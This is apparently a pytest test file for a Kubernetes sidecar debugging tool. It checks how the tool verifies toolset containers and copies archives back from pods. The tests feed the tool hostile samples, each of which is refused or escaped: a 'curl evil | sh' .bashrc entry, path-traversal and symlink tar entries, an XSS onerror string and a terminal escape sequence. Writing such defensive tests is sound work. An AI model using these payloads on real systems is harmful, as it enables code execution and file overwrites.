"""Session commands without a cluster: container discovery and its trust check, and the
tar-over-exec copy-back of hostile archives (with a fake exec)."""

from __future__ import annotations

import base64
import copy
import io
import json
import os
import tarfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from tests.unit.render.pagedata import page_data
from webhook.commands import cli
from webhook.config import load_settings
from webhook.inject.attach import build_attach_container
from webhook.inject.sidecar import InjectionPlan, inject_pod
from webhook.sessions import session as sessions
from webhook.wire import constants, exits

TOOLSET = "localhost/sidecar-debug/toolset:0.1.0"
MARKER = {"name": constants.ENV_ATTACHED, "value": "true"}


def pod(containers: Sequence[str], *, status: dict[str, Any] | None = None,
        ephemeral: Sequence[str] = (), running: Sequence[str] = ()) -> dict[str, Any]:
    annotations = {"sidecar-debug.io/status": json.dumps(status)} if status else {}
    return {
        "metadata": {"name": "web", "annotations": annotations},
        "spec": {"containers": [{"name": n} for n in containers],
                 "ephemeralContainers": [{"name": n, "env": [MARKER]} for n in ephemeral]},
        "status": {"ephemeralContainerStatuses": [
            {"name": n, "state": {"running": {}}} for n in running]},
    }


def test_injected_sidecar_is_found_by_the_status_annotation() -> None:
    found = sessions.find_toolset_container(
        pod(["tools", "app"], status={"container": "tools"}), None, "debug-toolset")
    assert found == "tools"


def test_configured_sidecar_name_without_annotation() -> None:
    assert sessions.find_toolset_container(pod(["debug-toolset", "app"]), None,
                                           "debug-toolset") == "debug-toolset"


@pytest.mark.parametrize("value", [[], {}, 5, None, ""])
def test_a_malformed_status_annotation_falls_back_to_the_sidecar_name(value: Any) -> None:
    assert sessions.find_toolset_container(
        pod(["debug-toolset", "app"], status={"container": value}), None, "debug-toolset",
    ) == "debug-toolset"


def test_newest_running_attached_container() -> None:
    manifest = pod(["app"], ephemeral=["debug-toolset-aaaaaa", "debug-toolset-bbbbbb", "other"],
                   running=["debug-toolset-aaaaaa", "debug-toolset-bbbbbb", "other"])
    assert sessions.find_toolset_container(manifest, None, "debug-toolset") == (
        "debug-toolset-bbbbbb")


def test_an_ephemeral_container_without_our_marker_is_not_picked() -> None:
    manifest = pod(["app"], running=["debug-toolset-cccccc"])
    manifest["spec"]["ephemeralContainers"] = [{"name": "debug-toolset-cccccc", "image": "x"}]
    with pytest.raises(sessions.SessionError) as raised:
        sessions.find_toolset_container(manifest, None, "debug-toolset")
    assert raised.value.code == exits.EXIT_NO_TOOLSET


def test_no_toolset_container_says_how_to_get_one() -> None:
    with pytest.raises(sessions.SessionError) as raised:
        sessions.find_toolset_container(pod(["app"]), None, "debug-toolset")
    assert raised.value.code == exits.EXIT_NO_TOOLSET
    assert "attach" in str(raised.value)


def test_unknown_requested_container() -> None:
    with pytest.raises(sessions.SessionError) as raised:
        sessions.find_toolset_container(pod(["app"]), "nope", "debug-toolset")
    assert raised.value.code == exits.EXIT_USAGE


# --- is the chosen container really the toolset? ------------------------------------------------


SETTINGS = load_settings(environ={}, overrides={"toolset_image": TOOLSET})


def injected_pod(*, running_image: str | None = None, profile: str = "perf") -> dict[str, Any]:
    """A pod as the injector builds it (the real one), running."""
    app = {"metadata": {"name": "web"}, "spec": {"containers": [
        {"name": "app", "image": "shop/web:1", "command": ["node", "app.js"]}]}}
    pod, _ = inject_pod(app, InjectionPlan(profile=SETTINGS.profiles[profile]), SETTINGS)
    pod["status"] = {"containerStatuses": [
        {"name": "debug-toolset", "image": running_image or TOOLSET},
        {"name": "app", "image": "docker.io/shop/web:1"},
    ]}
    return pod


def test_the_injected_toolset_is_trusted() -> None:
    manifest = injected_pod()
    name = sessions.find_toolset_container(manifest, None, "debug-toolset")
    sessions.verify_toolset_container(manifest, name, SETTINGS)


def test_status_annotation_naming_the_app_container_is_refused() -> None:
    """Anyone who may patch the pod can point the status annotation at the app container (and
    its `image` at the app's image): the session must not exec there."""
    manifest = injected_pod()
    manifest["metadata"]["annotations"][constants.ANNOTATION_STATUS] = json.dumps(
        {"container": "app", "image": "shop/web:1"})
    name = sessions.find_toolset_container(manifest, None, "debug-toolset")
    assert name == "app"
    with pytest.raises(sessions.SessionError) as raised:
        sessions.verify_toolset_container(manifest, name, SETTINGS)
    assert raised.value.code == exits.EXIT_NO_TOOLSET
    assert "shop/web:1" in str(raised.value) and TOOLSET in str(raised.value)


def test_a_container_running_the_toolset_image_with_its_own_command_is_refused() -> None:
    """Issue 17: the toolset image is public; a pod can run it with its own PATH and scripts."""
    manifest = injected_pod()
    sidecar = manifest["spec"]["containers"][0]
    for change in ({"command": ["sh", "-c", "evil"]},
                   {"env": [*sidecar["env"], {"name": "PATH", "value": "/tmp/evil"}]},
                   {"securityContext": {"privileged": True}}):
        forged = copy.deepcopy(manifest)
        forged["spec"]["containers"][0].update(change)
        with pytest.raises(sessions.SessionError) as raised:
            sessions.verify_toolset_container(forged, "debug-toolset", SETTINGS)
        assert raised.value.code == exits.EXIT_NO_TOOLSET, change


def test_a_patched_sidecar_image_is_refused_in_spec_and_in_status() -> None:
    patched = injected_pod()
    patched["spec"]["containers"][0]["image"] = "evil:1"
    with pytest.raises(sessions.SessionError):
        sessions.verify_toolset_container(patched, "debug-toolset", SETTINGS)
    # `kubectl set image` changed the spec back, but the node still runs another image.
    with pytest.raises(sessions.SessionError) as raised:
        sessions.verify_toolset_container(injected_pod(running_image="evil:1"), "debug-toolset",
                                          SETTINGS)
    assert "the node runs image evil:1" in str(raised.value)


def test_attached_container_must_be_what_attach_builds() -> None:
    manifest = injected_pod()
    built = build_attach_container(manifest, SETTINGS, SETTINGS.profiles["lttng"],
                                   name="debug-toolset-aaaaaa", target="app")
    unmarked = {**built, "name": "debug-toolset-bbbbbb", "env": [
        e for e in built["env"] if e["name"] != constants.ENV_ATTACHED]}
    other_image = {**built, "name": "debug-toolset-cccccc", "image": "busybox"}
    manifest["spec"]["ephemeralContainers"] = [built, unmarked, other_image]
    manifest["status"]["ephemeralContainerStatuses"] = [
        {"name": c["name"], "image": c["image"]} for c in (built, unmarked, other_image)]
    sessions.verify_toolset_container(manifest, "debug-toolset-aaaaaa", SETTINGS)
    for name in ("debug-toolset-bbbbbb", "debug-toolset-cccccc"):
        with pytest.raises(sessions.SessionError):
            sessions.verify_toolset_container(manifest, name, SETTINGS)


# --- copy-back -----------------------------------------------------------------------------------


class FakeSession(sessions.Session):
    def __init__(self, archive: bytes) -> None:
        super().__init__(api_client=None, pod="web", namespace="ns", container="tools")
        self.archive = archive
        self.commands: list[list[str]] = []

    def exec(self, command: Sequence[str], *, on_stdout: Any = None, keep_stdout: bool = True,
             **_: Any) -> sessions.ExecResult:
        """Sends the archive as exec does: in chunks to on_stdout, kept only if asked."""
        self.commands.append(list(command))
        text = base64.b64encode(self.archive).decode()
        for start in range(0, len(text), 4099):
            if on_stdout:
                on_stdout(text[start:start + 4099])
        return sessions.ExecResult(0, text if keep_stdout else "", "")


def tar_of(files: dict[str, bytes], extra: Sequence[tarfile.TarInfo] = ()) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o4777  # setuid, world-writable: must not survive the copy
            archive.addfile(info, io.BytesIO(data))
        for info in extra:
            archive.addfile(info)
    return buffer.getvalue()


def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


TRACE = {"trace.txt": b"events", "trace/metadata": b"ctf"}


def trace_destinations(out: Path) -> dict[str, Path]:
    return {"trace.txt": out / "trace.txt", "trace": out / "trace"}


def test_fetch_copies_files_back(tmp_path: Path) -> None:
    session = FakeSession(tar_of(TRACE))
    session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
    assert (tmp_path / "trace.txt").read_bytes() == b"events"
    assert (tmp_path / "trace" / "metadata").read_bytes() == b"ctf"
    assert (tmp_path / "trace.txt").stat().st_mode & 0o7777 == 0o644
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left
    assert "tar -cf -" in session.commands[0][-1]


def test_fetch_reads_small_files_without_writing_them(tmp_path: Path) -> None:
    session = FakeSession(tar_of({"flamegraph.html": b"<html>", "summary.txt": b"hot: fib"}))
    contents = session.fetch("/tmp/sidecar-debug/x", {"flamegraph.html": tmp_path / "f.html"},
                             read=["summary.txt"])
    assert contents == {"summary.txt": b"hot: fib"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.html"]


def test_a_file_read_into_memory_is_size_capped(tmp_path: Path) -> None:
    huge = b"x" * (sessions.READ_LIMIT + 1)
    session = FakeSession(tar_of({"flamegraph.html": b"<html>", "summary.txt": huge}))
    with pytest.raises(sessions.SessionError, match="'summary.txt' is larger than"):
        session.fetch("/tmp/sidecar-debug/x", {"flamegraph.html": tmp_path / "f.html"},
                      read=["summary.txt"])
    assert not (tmp_path / "f.html").exists()


def test_pod_text_for_the_terminal_has_no_control_sequences() -> None:
    from webhook.sessions.copyback import terminal_text

    shown = terminal_text(b"fib\t42\n\x1b]52;c;cGF5bG9hZA==\x07\xc2\x9b2J\rover\xff\n", 1000)
    assert shown == "fib\t42\n\\x1b]52;c;cGF5bG9hZA==\\x07\\x9b2J\\rover\ufffd\n"
    assert terminal_text("\u202egnp.exe\n".encode()) == "\\u202egnp.exe\n"  # RTL override
    cut = terminal_text(b"a" * 100, 10)
    assert cut.startswith("a" * 10 + "\n[... 90 more bytes")


HOSTILE_ARCHIVES = [
    pytest.param(tar_of({**TRACE, "/etc/evil": b"x"}), "unsafe path", id="absolute"),
    pytest.param(tar_of({**TRACE, "../evil": b"x"}), "unsafe path", id="parent"),
    pytest.param(tar_of({**TRACE, "trace/../../evil": b"x"}), "unsafe path", id="inner-parent"),
    pytest.param(tar_of({**TRACE, ".bashrc": b"curl evil | sh"}), "unexpected name",
                 id="unexpected-name"),
    pytest.param(tar_of(TRACE, [special("trace/link", tarfile.SYMTYPE, "/etc/passwd")]),
                 "symbolic link", id="symlink"),
    pytest.param(tar_of({"trace/metadata": b"ctf"},
                        [special("trace.txt", tarfile.SYMTYPE, "../../.bashrc")]),
                 "symbolic link", id="symlink-as-expected-name"),
    pytest.param(tar_of(TRACE, [special("trace/hard", tarfile.LNKTYPE, "trace.txt")]),
                 "hard link", id="hardlink"),
    pytest.param(tar_of(TRACE, [special("trace/null", tarfile.CHRTYPE)]), "a device",
                 id="device"),
    pytest.param(tar_of(TRACE, [special("trace/fifo", tarfile.FIFOTYPE)]), "a device",
                 id="fifo"),
]


@pytest.mark.parametrize(("archive", "why"), HOSTILE_ARCHIVES)
def test_a_hostile_archive_writes_nothing(tmp_path: Path, archive: bytes, why: str) -> None:
    home = tmp_path / "home"
    out = home / "out"
    session = FakeSession(archive)
    with pytest.raises(sessions.SessionError) as raised:
        session.fetch("/tmp/sidecar-debug/x", trace_destinations(out))
    assert why in str(raised.value)
    assert "nothing was written" in str(raised.value)
    assert sorted(os.listdir(out)) == []  # not even the parts that were fine, nor staging
    assert not (home / "evil").exists() and not (tmp_path / "evil").exists()


def test_an_existing_file_is_never_overwritten_without_force(tmp_path: Path) -> None:
    (tmp_path / "trace.txt").write_text("my notes")
    session = FakeSession(tar_of(TRACE))
    with pytest.raises(sessions.SessionError) as raised:
        session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
    assert raised.value.code == exits.EXIT_USAGE and "--force" in str(raised.value)
    assert (tmp_path / "trace.txt").read_text() == "my notes"
    assert not (tmp_path / "trace").exists()
    assert session.commands == []  # refused before anything ran in the pod


def test_a_file_appearing_during_the_copy_is_not_overwritten(tmp_path: Path) -> None:
    class Racing(FakeSession):
        def exec(self, command: Sequence[str], **kw: Any) -> sessions.ExecResult:
            (tmp_path / "trace.txt").write_text("written meanwhile")
            return super().exec(command, **kw)

    with pytest.raises(sessions.SessionError):
        Racing(tar_of(TRACE)).fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
    assert (tmp_path / "trace.txt").read_text() == "written meanwhile"


def test_force_replaces_files_and_folders_and_links_without_following(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep")
    (tmp_path / "trace.txt").symlink_to(victim)
    (tmp_path / "trace").mkdir()
    (tmp_path / "trace" / "old").write_text("old")
    FakeSession(tar_of(TRACE)).fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path),
                                     force=True)
    assert victim.read_text() == "keep"
    assert not (tmp_path / "trace.txt").is_symlink()
    assert (tmp_path / "trace.txt").read_bytes() == b"events"
    assert sorted(os.listdir(tmp_path / "trace")) == ["metadata"]


def test_fetch_of_an_incomplete_archive_says_so(tmp_path: Path) -> None:
    whole = tar_of({"trace/metadata": b"ctf" * 4000, "trace.txt": b""})
    session = FakeSession(whole[: len(whole) // 2])
    with pytest.raises(sessions.SessionError) as raised:
        session.fetch("/tmp/sidecar-debug/lttng-1", trace_destinations(tmp_path))
    assert "arrived incomplete" in str(raised.value)
    assert "/tmp/sidecar-debug/lttng-1" in str(raised.value)


def test_a_missing_expected_name_is_an_error(tmp_path: Path) -> None:
    session = FakeSession(tar_of({"trace.txt": b"events"}))
    with pytest.raises(sessions.SessionError) as raised:
        session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
    assert "sent no trace" in str(raised.value)
    assert not (tmp_path / "trace.txt").exists()


class BatchedStream:
    """Like kubernetes.stream.ws_client.WSClient: every update() (and so every peek) reads the
    frames that have arrived, here one batch per call, and stops at the close frame."""

    returncode = 0

    def __init__(self, batches: list[list[Any]]) -> None:
        self.batches = batches
        self.channels: dict[int, str] = {}
        self.open = True

    def is_open(self) -> bool:
        return self.open

    def update(self, timeout: float | None = 0) -> None:
        if not self.open or not self.batches:
            return
        for frame in self.batches.pop(0):
            if frame == "close":
                self.open = False
                return
            channel, data = frame
            self.channels[channel] = self.channels.get(channel, "") + data

    def _peek(self, channel: int) -> str:
        self.update()
        return self.channels.get(channel, "")

    def _read(self, channel: int) -> str:
        if channel not in self.channels:
            self.update()
        return self.channels.pop(channel, "")

    def peek_stdout(self, timeout: float = 0) -> str:
        return self._peek(1)

    def peek_stderr(self, timeout: float = 0) -> str:
        return self._peek(2)

    def read_stdout(self, timeout: float | None = None) -> str:
        return self._read(1)

    def read_stderr(self, timeout: float | None = None) -> str:
        return self._read(2)

    def close(self) -> None:
        self.open = False


def test_exec_keeps_output_that_arrives_with_the_close_frame(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The peek of stderr reads the last stdout frames and the close frame together: that
    output must still reach the result (a trace copy once lost its tail this way)."""
    import kubernetes.stream

    batches: list[list[Any]] = [[(1, "AAA")], [], [(1, "BBB"), (2, "done"), "close"]]
    monkeypatch.setattr(kubernetes.stream, "stream", lambda *a, **k: BatchedStream(batches))
    seen: list[str] = []
    session = sessions.Session(api_client=None, pod="web", namespace="ns", container="tools")
    result = session.exec(["true"], container="tools", on_stdout=seen.append)
    assert result.stdout == "AAABBB"
    assert result.stderr == "done"
    assert seen == ["AAA", "BBB"]


@pytest.mark.parametrize("command", ["flamegraph", "trace", "doctor", "attach"])
def test_session_commands_are_registered(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as raised:
        cli.main([command, "--help"])
    assert raised.value.code == 0
    assert "POD" in capsys.readouterr().out


# --- flamegraph: the run comes back as data and is rendered here -----------------------------

class LocalToolset(sessions.Session):
    """A toolset container played by this machine: `flamegraph --out DIR` writes `files` into
    DIR (as the toolset's recording does); the copy-back script and `rm` really run (sh, tar,
    base64), so the fetch of optional files is exercised as the pod runs it."""

    def __init__(self, files: dict[str, bytes]) -> None:
        super().__init__(api_client=None, pod="web-1", namespace="shop", container="tools")
        self.files = files
        self.commands: list[list[str]] = []

    def toolset_container(self) -> str:
        return "tools"

    def exec(self, command: Sequence[str], *, on_stdout: Any = None, keep_stdout: bool = True,
             **_: Any) -> sessions.ExecResult:
        import subprocess

        if command[0] == "flamegraph":
            self.commands.append(list(command))
            out = Path(command[command.index("--out") + 1])
            out.mkdir(parents=True)
            for name, data in self.files.items():
                (out / name).write_bytes(data)
            return sessions.ExecResult(0, "", "")
        done = subprocess.run(list(command), capture_output=True, text=True, check=False)
        if on_stdout and done.stdout:  # as exec streams it
            on_stdout(done.stdout)
        return sessions.ExecResult(done.returncode, done.stdout if keep_stdout else "",
                                   done.stderr)


@pytest.fixture
def remote_base(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    base = tmp_path / "pod"
    monkeypatch.setattr(sessions, "REMOTE_BASE", str(base))
    return base


FOLDED = b"node;main;fibonacci 90\nnode;[unknown];0x7f00deadbeef 10\n"
HOSTILE = "x</script><img src=x onerror=alert(1)>.js"


def test_flamegraph_renders_the_run_here_with_the_recordings_named_share(
        tmp_path: Path, remote_base: Path, capsys: pytest.CaptureFixture[str]) -> None:
    meta = {"technique": "perf", "type": "cpu", "seconds": 5, "frequency": 99,
            "named_share": 0.9, "notes": [f"perf map of {HOSTILE}"]}
    session = LocalToolset({"stacks.folded": FOLDED, "meta.json": json.dumps(meta).encode(),
                            "summary.txt": b"hottest functions of PID 7 node app.js:\n"
                                           b"   90.0%      90  fibonacci\n",
                            "flamegraph.html": b"<script>alert('from the pod')</script>"})
    target = tmp_path / "out" / "fg.html"
    assert sessions.flamegraph(session, seconds=5, frequency=99, pid=None, name=None,
                               output=target) == 0
    html = target.read_text()
    assert "from the pod" not in html and "<img" not in html  # rendered here, not copied
    data = page_data(html)
    assert data["title"] == "shop/web-1" and data["named"] == {"share": 0.9,
                                                               "source": "meta.json"}
    assert data["notes"] == [f"perf map of {HOSTILE}"]
    assert target.with_suffix(".folded").read_bytes() == FOLDED
    assert sorted(p.name for p in target.parent.iterdir()) == ["fg.folded", "fg.html"]
    out = capsys.readouterr().out.splitlines()
    assert out[1] == "   90.0%      90  fibonacci"  # the toolset's summary first
    assert out[2:] == ["samples:       100", "named frames:  90.0 % (from the recording)",
                       f"flame graph:   {target}",
                       f"folded stacks: {target.with_suffix('.folded')}"]
    assert list(remote_base.iterdir()) == []  # the recording is removed from the pod


def test_flamegraph_does_not_repeat_the_toolsets_named_share(
        tmp_path: Path, remote_base: Path, capsys: pytest.CaptureFixture[str]) -> None:
    summary = (b"hottest functions of PID 7 (node): node /app/app.js (cpu, self samples):\n"
               b"   90.0%      90  fibonacci\n"
               b"named frames: 90.0 % of 300 sampled frames; stacks 3.0 deep on average\n")
    session = LocalToolset({"stacks.folded": FOLDED, "summary.txt": summary,
                            "meta.json": b'{"named_share": 0.9}'})
    target = tmp_path / "fg.html"
    assert sessions.flamegraph(session, seconds=1, frequency=99, pid=None, name=None,
                               output=target) == 0
    out = capsys.readouterr().out
    assert out.count("named frames") == 1 and out.startswith(summary.decode())
    assert page_data(target.read_text())["named"] == {"share": 0.9, "source": "meta.json"}


def test_flamegraph_passes_the_profile_type_through(tmp_path: Path, remote_base: Path) -> None:
    session = LocalToolset({"stacks.folded": FOLDED})
    assert sessions.flamegraph(session, seconds=1, frequency=99, pid=None, name=None,
                               output=tmp_path / "a.html", profile_type="wall") == 0
    assert sessions.flamegraph(session, seconds=1, frequency=99, pid=None, name=None,
                               output=tmp_path / "b.html") == 0
    wall, cpu = session.commands
    assert wall[wall.index("--type") + 1] == "wall"
    assert "--type" not in cpu  # the default: a toolset older than --type takes it too


def test_flamegraph_from_a_toolset_without_meta_computes_the_share(
        tmp_path: Path, remote_base: Path, capsys: pytest.CaptureFixture[str]) -> None:
    session = LocalToolset({"stacks.folded": FOLDED + f"node;{HOSTILE} 5\n".encode()})
    target = tmp_path / "fg.html"
    assert sessions.flamegraph(session, seconds=1, frequency=99, pid=None, name=None,
                               output=target) == 0
    data = page_data(target.read_text())
    assert data["named"]["source"] == "frames" and HOSTILE in data["names"]
    out = capsys.readouterr().out.splitlines()
    assert out[:2] == ["hottest functions (self samples):", "   85.7%      90  fibonacci"]
    assert "named frames:  93.5 % (computed from the frame names, 310 sampled frames)" in out


def test_flamegraph_keeps_an_existing_page_and_refuses_bad_stacks(
        tmp_path: Path, remote_base: Path) -> None:
    target = tmp_path / "fg.html"
    target.write_text("mine")
    session = LocalToolset({"stacks.folded": FOLDED})
    with pytest.raises(sessions.SessionError, match="exists"):
        sessions.flamegraph(session, seconds=1, frequency=99, pid=None, name=None, output=target)
    assert target.read_text() == "mine"
    bad = LocalToolset({"stacks.folded": b"<html>not stacks</html>\n"})
    with pytest.raises(sessions.SessionError, match="is not folded stacks: line 1"):
        sessions.flamegraph(bad, seconds=1, frequency=99, pid=None, name=None,
                            output=tmp_path / "other.html")
    assert not (tmp_path / "other.html").exists()
